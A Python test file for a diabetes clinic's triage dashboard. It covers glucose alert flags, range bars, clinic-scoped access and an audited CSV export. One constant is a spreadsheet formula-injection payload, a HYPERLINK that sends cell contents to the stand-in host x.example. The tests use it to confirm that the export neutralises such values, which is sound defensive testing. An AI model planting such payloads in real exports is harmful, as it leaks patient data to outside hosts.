"""The clinic's triage: the time-in-ranges bar, the five flags (each firing on hand-made data
and not just below its threshold), the last upload, the filters and sorting, and the CSV export
(authorised, audited, safe from spreadsheet formulas)."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from fastapi.testclient import TestClient

from glucosestream.access import hash_token
from glucosestream.app import create_app
from glucosestream.config import IngestSettings, LakeSettings, Settings
from glucosestream.dashboard.triage import CSV_COLUMNS, csv_cell
from glucosestream.dashboard.triage_flags import flags_of, range_shares, wear_pct
from glucosestream.ingest import ingest_records
from glucosestream.ingest.identity import patient_key
from glucosestream.lake import open_access
from glucosestream.lake.patient_directory import open_patient_directory
from glucosestream.pipeline import run_pipeline

from .conftest import SECRET
from .test_dashboard_lake import login

# The lake's newest day is 2026-02-03, recorded to 23:45 (complete): the current window is
# 2026-01-21..02-03, the previous one 2026-01-07..01-20.
FIRST_DAY = dt.date(2026, 1, 7)
DAYS = 28
INGESTED_AT = dt.datetime(2026, 2, 5, tzinfo=dt.UTC)  # when the lake's one batch was received
HOSTILE_LABEL = '=HYPERLINK("http://x.example/?"&A1,"open")'


def _row(**values):
    """A hand-made summary row: in range, fully worn, unless told otherwise."""
    row = {
        "period_start": dt.date(2026, 1, 21),
        "period_end": dt.date(2026, 2, 3),
        "days": 13.99,
        "dt0_min": 15,
        "active_pct": 100.0,
        "pct_below_54": 0.0,
        "pct_54_69": 0.0,
        "pct_70_180": 100.0,
        "pct_181_250": 0.0,
        "pct_above_250": 0.0,
        "pct_below_70": 0.0,
    }
    return row | values


def _ids(current, previous=None):
    return [f.flag_id for f in flags_of(current, previous)]


@pytest.mark.parametrize(
    ("values", "previous_tir", "fires", "stays_quiet"),
    [
        ({"pct_below_54": 1.1, "pct_below_70": 1.1}, None, "very_low", {"pct_below_54": 1.0}),
        ({"pct_below_70": 4.1}, None, "low", {"pct_below_70": 4.0}),
        ({"pct_70_180": 74.0}, 89.5, "tir_drop", {"pct_70_180": 75.0}),
        ({"pct_70_180": 69.9}, None, "tir_low", {"pct_70_180": 70.0}),
        ({"active_pct": 69.9}, None, "wear_low", {"active_pct": 70.0}),
        ({"days": 4.0}, None, "wear_low", {"days": 9.9}),  # 4 of 14 days worn: 29 %
    ],
)
def test_each_flag_fires_over_its_threshold_and_not_at_it(values, previous_tir, fires, stays_quiet):
    previous = None if previous_tir is None else _row(pct_70_180=previous_tir)
    assert fires in _ids(_row(**values), previous)
    assert fires not in _ids(_row(**stays_quiet), previous or _row(pct_70_180=90.0))
    assert _ids(_row(), _row()) == []  # a patient on target raises nothing


def test_flags_are_named_in_words_in_the_viewers_unit():
    raised = flags_of(_row(pct_below_54=2.0, pct_below_70=5.0, pct_70_180=60.0), None)
    assert [f.label("mg_dl") for f in raised] == [
        "Time below 54 mg/dL over 1 %",
        "Time below 70 mg/dL over 4 %",
        "Time in range under 70 %",
    ]
    assert raised[0].label("mmol_l") == "Time below 3.0 mmol/L over 1 %"
    assert _ids(None) == ["wear_low"]  # no readings in the window: only the wear flag


def test_wear_counts_the_whole_window_not_only_the_days_with_data():
    assert wear_pct(_row(days=4.0 - 15 / 1440, active_pct=100.0)) == pytest.approx(400 / 14)
    assert wear_pct(_row(days=14.0)) == pytest.approx(100.0)
    assert wear_pct(_row(active_pct=None)) is None


def test_the_bar_has_five_ranges_very_high_first_and_nothing_without_readings():
    shares = range_shares(
        _row(pct_below_54=2.0, pct_54_69=3.0, pct_70_180=60.0, pct_181_250=25.0, pct_above_250=10.0)
    )
    assert [s.css for s in shares] == ["vhigh", "high", "target", "low", "vlow"]
    assert sum(s.pct for s in shares) == pytest.approx(100.0)
    assert range_shares(_row(pct_70_180=None)) == []


def test_csv_cells_that_a_spreadsheet_would_run_are_quoted():
    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"):
        assert csv_cell(text) == "'" + text
    assert csv_cell("P1") == "P1"
    assert csv_cell(-12.5) == "-12.50"  # a number stays a number
    assert csv_cell(None) == ""


# The lake ---------------------------------------------------------------------------------


def _day(patient, day, glucose_at):
    """One local day of 15-minute readings (UTC), glucose from ``glucose_at(slot)``."""
    start = dt.datetime.combine(day, dt.time(), dt.UTC)
    return [
        {
            "patient_id": patient,
            "time": (start + dt.timedelta(minutes=15 * i)).isoformat(),
            "glucose_mg_dl": glucose_at(i),
            "tz": "UTC",
        }
        for i in range(96)
    ]


def _records():
    out = []
    for n in range(DAYS):
        day = FIRST_DAY + dt.timedelta(days=n)
        current = n >= DAYS // 2
        # LOW: two hours a day at 50 mg/dL (8 % below 54), the rest at 120.
        out += _day("LOW", day, lambda i: 50.0 if i < 8 else 120.0)
        out += _day("GOOD", day, lambda i: 120.0)
        # DROP: in range before; in the current window, 45 % of each day at 210 mg/dL.
        out += _day("DROP", day, lambda i, c=current: 210.0 if c and i < 43 else 130.0)
        if n >= DAYS - 5 and n != DAYS - 1:  # GAP: four days of the current window
            out += _day("GAP", day, lambda i: 125.0)
        if n >= DAYS - 20:  # PART: 20 complete days, then a day recorded until 10:00
            out += _day("PART", day, lambda i: 140.0)
    partial = _day("PART", FIRST_DAY + dt.timedelta(days=DAYS), lambda i: 100.0)
    return out + partial[:41]


@pytest.fixture(scope="module")
def clinic(tmp_path_factory):
    root = tmp_path_factory.mktemp("clinic") / "lake"
    settings = Settings(
        lake=LakeSettings(root=str(root)), ingest=IngestSettings(pseudonym_secret=SECRET)
    )
    ingest_records(settings, _records(), now=lambda: INGESTED_AT)
    assert run_pipeline(settings).status == "published"
    keys = {p: patient_key(SECRET.encode(), p) for p in ("LOW", "GOOD", "DROP", "GAP", "PART")}
    store = open_access(settings.lake)
    now = dt.datetime(2026, 2, 4, tzinfo=dt.UTC)
    for token, role, clinic_id, bound in (
        ("t_admin", "admin", None, None),
        ("t_north", "clinician", "north", None),
        ("t_patient", "patient", None, [keys["LOW"]]),
    ):
        store.tokens.add_token(
            hash_token(token),
            role,
            label=token,
            created_at=now,
            clinic_id=clinic_id,
            patient_keys=bound or (),
        )
    store.clinics.add_clinic_patients("north", [keys["LOW"], keys["DROP"]])
    store.clinics.add_clinic_patients("south", [keys["GOOD"], keys["GAP"]])
    open_patient_directory(settings.lake).set_label(keys["LOW"], HOSTILE_LABEL, at=now, by="test")
    return settings, keys


def _triage(client, query=""):
    response = client.get(f"/v1/triage{query}")
    assert response.status_code == 200, response.text
    return response.json()["patients"]


def test_triage_flags_bars_and_last_upload_on_a_lake(clinic):
    settings, keys = clinic
    with TestClient(create_app(settings)) as client:
        rows = {r["patient_key"]: r for r in _triage(login(client, "t_admin"))}
    flags = {name: [f["flag_id"] for f in rows[key]["flags"]] for name, key in keys.items()}
    assert flags == {
        "LOW": ["very_low", "low"],
        "GOOD": [],
        "DROP": ["tir_drop", "tir_low"],
        "GAP": ["wear_low"],
        "PART": [],
    }
    drop = rows[keys["DROP"]]["summary"]
    assert drop["period_start"] == "2026-01-21"
    assert drop["period_end"] == "2026-02-03"
    assert drop["previous_pct_70_180"] == pytest.approx(100.0)
    assert drop["tir_change_points"] == pytest.approx(-100.0 * 43 / 96, abs=0.2)
    low = rows[keys["LOW"]]
    assert low["summary"]["pct_below_54"] == pytest.approx(100.0 * 8 / 96, abs=0.1)
    for row in rows.values():
        assert sum(r["pct"] for r in row["ranges"]) == pytest.approx(100.0, abs=0.01)
        assert dt.datetime.fromisoformat(row["last_upload_at"]) == INGESTED_AT
    assert rows[keys["GAP"]]["summary"]["wear_pct"] == pytest.approx(100 * 4 / 14, abs=0.5)
    part = rows[keys["PART"]]["summary"]  # its newest day stops at 10:00: not counted
    assert (part["period_end"], part["partial_day"]) == ("2026-02-03", "2026-02-04")
    assert part["mean_mg_dl"] == pytest.approx(140.0)


def test_the_page_names_each_flag_and_range_in_words(clinic):
    settings, keys = clinic
    with TestClient(create_app(settings)) as client:
        html = login(client, "t_admin").get("/").text
    assert "Time below 54 mg/dL over 1 %" in html
    assert "Time in range down more than 15 points" in html
    assert 'aria-label="Very low (&lt;54 mg/dL) 8.3 %' in html
    assert "HYPERLINK" in html
    assert "<script" not in html.split("<main>")[1].split("</main>")[0]
    assert f'href="/patients/{keys["DROP"]}/compare"' in html


def test_filters_by_flag_and_clinic_and_sorts(clinic):
    settings, keys = clinic
    with TestClient(create_app(settings)) as client:
        login(client, "t_admin")
        only_drop = _triage(client, "?flag=tir_drop")
        flagged = _triage(client, "?flag=any")
        south = _triage(client, "?clinic=south")
        by_tir = _triage(client, "?sort=tir")
        by_change = _triage(client, "?sort=tir_change")
        thin = _triage(client, "?insufficient=true")
        refused = client.get("/v1/triage?flag=bogus")
    assert [r["patient_key"] for r in only_drop] == [keys["DROP"]]
    assert keys["GOOD"] not in {r["patient_key"] for r in flagged}
    assert len(flagged) == 3
    assert {r["patient_key"] for r in south} == {keys["GOOD"], keys["GAP"]}
    tirs = [r["summary"]["pct_70_180"] for r in by_tir]
    assert tirs == sorted(tirs)
    assert by_change[0]["patient_key"] == keys["DROP"]
    assert [r["patient_key"] for r in thin] == [keys["GAP"]]  # 4 of its 14 days worn
    assert refused.status_code == 422
    assert refused.json()["ok"] is False


def test_a_clinician_sees_only_their_clinic_even_when_filtering_another(clinic):
    settings, keys = clinic
    with TestClient(create_app(settings)) as client:
        login(client, "t_north")
        own = _triage(client)
        other = _triage(client, "?clinic=south")
    assert {r["patient_key"] for r in own} == {keys["LOW"], keys["DROP"]}
    assert other == []


def _csv(response):
    return list(csv.DictReader(io.StringIO(response.text)))


def test_csv_export_has_the_rows_is_authorised_audited_and_formula_safe(clinic):
    settings, keys = clinic
    with TestClient(create_app(settings)) as client:
        anonymous = client.get("/triage.csv")
        by_bearer = client.get(
            "/triage.csv?flag=any&sort=tir", headers={"Authorization": "Bearer t_admin"}
        )
        as_patient = client.get("/triage.csv", headers={"Authorization": "Bearer t_patient"})
        as_north = client.get("/triage.csv", headers={"Authorization": "Bearer t_north"})
    assert anonymous.status_code == 401
    assert anonymous.json()["ok"] is False
    assert as_patient.status_code == 403
    assert by_bearer.status_code == 200
    assert by_bearer.headers["content-type"].startswith("text/csv")
    assert "attachment" in by_bearer.headers["content-disposition"]
    rows = _csv(by_bearer)
    assert list(rows[0]) == list(CSV_COLUMNS)
    assert {r["patient_key"] for r in rows} == {keys["LOW"], keys["DROP"], keys["GAP"]}
    tirs = [float(r["pct_70_180"]) for r in rows]
    assert tirs == sorted(tirs)
    low = next(r for r in rows if r["patient_key"] == keys["LOW"])
    assert low["label"] == "'" + HOSTILE_LABEL  # a spreadsheet shows it as text
    assert low["external_id"] == "LOW"
    assert low["flags"] == "Time below 54 mg/dL over 1 %; Time below 70 mg/dL over 4 %"
    for row in rows:
        bands = ("pct_below_54", "pct_54_69", "pct_70_180", "pct_181_250", "pct_above_250")
        assert sum(float(row[b]) for b in bands) == pytest.approx(100.0, abs=0.05)
    assert {r["patient_key"] for r in _csv(as_north)} == {keys["LOW"], keys["DROP"]}
    audit = open_access(settings.lake).audit.access_entries(action="export.triage_csv")
    assert [(e.role, e.resource) for e in audit[::-1]] == [
        ("admin", "/triage.csv?flag=any&sort=tir"),
        ("clinician", "/triage.csv"),
    ]


def test_triage_shows_the_rolling_summary_written_at_publish(clinic):
    """Triage's figures are the run's results.patient_summaries rows, whose current window is
    the one the comparison page computes with published.period_results."""
    from glucosestream.dashboard.clinic_windows import patient_windows, window_readings
    from glucosestream.published import PublishedLake, period_results

    settings, keys = clinic
    run = PublishedLake(settings).current()
    written = {(r["patient_key"], r["window"]): r for r in run.summaries().to_pylist()}
    with TestClient(create_app(settings)) as client:
        rows = {r["patient_key"]: r for r in _triage(login(client, "t_admin"))}
    for key in keys.values():
        current, previous = written[(key, "current")], written[(key, "previous")]
        shown = rows[key]["summary"]
        assert shown["run_id"] == current["run_id"] == run.run_id
        assert shown["period_end"] == current["period_end"].isoformat()
        assert shown["pct_70_180"] == current["pct_70_180"]
        assert shown["previous_pct_70_180"] == previous["pct_70_180"]
        windows = patient_windows(run, key)
        assert (current["period_start"], current["period_end"]) == windows.current
        assert (previous["period_start"], previous["period_end"]) == windows.previous
    start, end = patient_windows(run, keys["DROP"]).current
    alone = period_results(
        run, keys["DROP"], start, end, readings=window_readings(run, keys["DROP"]), now=INGESTED_AT
    ).metrics.to_pylist()[0]
    assert rows[keys["DROP"]]["summary"]["pct_70_180"] == pytest.approx(alone["pct_70_180"])


def test_last_upload_is_the_newest_batch_received_even_before_a_run(clinic):
    settings, keys = clinic
    at = INGESTED_AT + dt.timedelta(hours=9, minutes=30)
    open_access(settings.lake).tokens.add_token(
        hash_token("t_uploader_good"),
        "uploader",
        label="u",
        created_at=at - dt.timedelta(days=1),
        patient_keys=[keys["GOOD"]],
    )
    reading = {
        "patient_id": "GOOD",
        "time": (at - dt.timedelta(minutes=5)).isoformat(),
        "glucose_mg_dl": 118,
        "tz": "UTC",
    }
    with TestClient(create_app(settings, clock=lambda: at)) as client:
        before = {r["patient_key"]: r for r in _triage(login(client, "t_admin"))}
        posted = client.post(
            "/v1/readings",
            json={"readings": [reading]},
            headers={"Authorization": "Bearer t_uploader_good"},
        )
        assert posted.status_code == 200, posted.text
        after = {r["patient_key"]: r for r in _triage(client)}
    assert dt.datetime.fromisoformat(before[keys["GOOD"]]["last_upload_at"]) == INGESTED_AT
    assert dt.datetime.fromisoformat(after[keys["GOOD"]]["last_upload_at"]) == at
    assert after[keys["LOW"]]["last_upload_at"] == before[keys["LOW"]]["last_upload_at"]


def test_a_new_run_gets_the_pass_made_before_requests_when_triage_was_in_use(clinic):
    from glucosestream.dashboard.clinic_pass import clinic_pass, warm_clinic_pass
    from glucosestream.published import PublishedLake

    settings, _ = clinic
    now = dt.datetime(2026, 2, 5, tzinfo=dt.UTC)
    unused, used, new = (PublishedLake(settings).current() for _ in range(3))
    clinic_pass(used)
    assert not warm_clinic_pass(unused, new, now=now)
    assert not new.cached_names("clinic-pass")
    assert warm_clinic_pass(used, new, now=now)
    assert new.cached_names("clinic-pass") == ["clinic-pass"]
    assert not warm_clinic_pass(None, new, now=now)
